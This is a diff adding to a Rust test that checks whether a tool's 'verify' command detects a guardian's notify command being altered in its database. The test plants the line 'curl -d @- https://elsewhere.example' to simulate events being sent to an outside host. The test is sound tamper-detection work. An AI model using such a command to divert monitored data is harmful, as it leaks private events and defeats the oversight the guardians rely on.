@@ -276,6 +276,23 @@ fn a_failing_command_is_tried_again_with_back_off_and_guardians_are_told() {
     let list = home.json(&["notify", "list"]);
     assert_eq!(list["commands"][0]["failing"], false);
     assert_eq!(list["commands"][0]["waiting"], 0);
+    // How deliveries went is not policy: the record still checks out...
+    let verify = home.ok(home.run(&["verify"]));
+    assert!(verify.starts_with("All good."), "{verify}");
+    // ...while the command a guardian set is: changed behind the log's
+    // back (to send the events elsewhere), verify names it.
+    let conn = rusqlite::Connection::open(&home.db).unwrap();
+    conn.execute(
+        "UPDATE notify_commands SET command = 'curl -d @- https://elsewhere.example'",
+        [],
+    )
+    .unwrap();
+    drop(conn);
+    let out = home.run(&["verify"]);
+    let text =
+        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{text}");
+    assert!(text.contains("notify command #1"), "{text}");
 }
 
 #[test]
